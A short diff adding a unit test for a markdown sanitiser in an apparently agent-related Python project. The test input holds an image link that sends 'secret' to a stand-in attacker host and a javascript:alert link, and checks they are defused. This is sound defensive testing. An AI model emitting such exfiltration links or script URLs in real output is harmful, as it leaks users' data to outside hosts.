@@ -55,3 +55,9 @@ def test_plan_markdown():
         "## Analytical Planner\n\n#### Planner Sk Learn Agent\n- **Create**:\n  - model\n- **Use**:\n  - df\n"
         "- **Instruction**: fit &lt;it&gt;\n"
     )
+
+
+def test_prose_cannot_carry_links_images_or_fences():
+    text = summary_markdown("See ![x](https://evil.example/?d=secret) and [click](javascript:alert(1))\n```python\nx\n```")
+    assert "](" not in text and "```" not in text
+    assert "![x]\u200b(https://evil.example/?d=secret)" in text
